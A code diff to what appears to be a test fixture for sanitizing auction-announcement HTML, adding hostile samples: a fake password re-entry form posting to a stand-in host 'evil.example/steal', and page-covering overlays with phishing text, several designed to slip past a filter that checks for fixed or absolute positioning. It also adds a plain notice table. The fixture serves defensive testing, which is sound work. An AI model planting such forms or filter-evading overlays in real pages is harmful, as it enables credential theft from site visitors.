@@ -31,8 +31,25 @@ export const scriptBody =
   // A fake sign-in form and page-covering boxes (inline style, and the portal's own utility classes).
   '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新输入密码</p>' +
   '<input name="password" type="password"><button type="submit">重新登录</button></form>' +
-  '<div data-hostile="inline" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">系统维护中</div>' +
-  '<div data-hostile="class" class="fixed inset-0 z-50 bg-white">页面已失效</div>';
+  '<div title="hostile:inline" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">系统维护中</div>' +
+  '<div title="hostile:class" class="fixed inset-0 z-50 bg-white">页面已失效</div>' +
+  // Overlays that pass a filter looking for `position: fixed|absolute` (issue 20 item 5).
+  '<div title="hostile:var" style="--p:fixed;position:var(--p);top:0;left:0;width:100%;height:100%;background:#fff">请重新登录</div>' +
+  '<div title="hostile:relative" style="position:relative;top:-600px;height:600px;background:#fff">账号已冻结</div>' +
+  '<div title="hostile:transform" style="transform:translateY(-600px);height:600px;background:#fff">请验证身份</div>' +
+  '<div title="hostile:margin" style="margin-top:-600px;height:600px;background:#fff">请输入银行卡号</div>' +
+  // The page's own style sheets place elements by data attribute too (the toaster is fixed).
+  '<ol title="hostile:toaster" data-sonner-toaster="" data-y-position="top" data-x-position="left"><li>短信验证码已发送</li></ol>';
+
+/** Formatting centres use in every 竞买须知: a table with borders, bold, colours and alignment. */
+export const noticeBody =
+  '<ol><li>意向方须在报名截止前完成报名并交纳保证金。</li><li>竞价采用网络自由报价方式，价高者得。</li></ol>' +
+  '<table style="width:100%;border-collapse:collapse"><tbody>' +
+  '<tr><th style="border:1px solid #999;text-align:center"><strong>费用</strong></th>' +
+  '<th style="border:1px solid #999;text-align:center">标准</th></tr>' +
+  '<tr><td style="border:1px solid #999;padding:4px 8px">交易服务费</td>' +
+  '<td style="border:1px solid #999;text-align:right;color:#c00;font-weight:bold">按成交价 1%</td></tr>' +
+  '</tbody></table>';
 
 type Built = AnncDetail & { PlatformId: string };
 
@@ -110,7 +127,7 @@ export function buildAnnouncement(
       {
         TabId: 'notice',
         Title: '竞买须知',
-        Html: '<ol><li>意向方须在报名截止前完成报名并交纳保证金。</li><li>竞价采用网络自由报价方式，价高者得。</li></ol>',
+        Html: noticeBody,
       },
       { TabId: 'contact', Title: '联系方式', Html: '<p>联系人：王老师</p><p>联系电话：0371-6596XXXX</p>' },
     ],
